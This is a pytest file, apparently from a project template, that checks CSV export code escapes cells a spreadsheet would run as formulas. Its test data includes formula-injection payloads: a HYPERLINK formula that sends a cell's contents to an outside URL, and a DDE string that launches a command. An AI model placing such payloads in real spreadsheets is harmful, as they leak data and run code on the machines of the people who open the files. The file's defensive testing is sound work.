"""CSV files for spreadsheets: a cell that would run as a formula is shown as text instead."""

import io

import pandas as pd
import pytest

from {{ cookiecutter.package_name }}.spreadsheets import neutralised, spreadsheet_csv


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.org/?d="&A1, "Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Where is my parcel?", "I paid 5 - 3 = 2?", "", "'=quoted", 1.5])
def test_other_cells_stay_as_they_are(cell: object) -> None:
    assert neutralised(cell) == cell


def test_the_csv_neutralises_text_cells_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"text": ["=1+1", "hello"], "label": ["@team", "billing"], "n": [-1.5, 2]})
    written = spreadsheet_csv(frame)
    read = pd.read_csv(io.StringIO(written), dtype=str, keep_default_na=False)
    assert read.to_dict("records") == [
        {"text": "'=1+1", "label": "'@team", "n": "-1.5"},
        {"text": "hello", "label": "billing", "n": "2.0"},
    ]
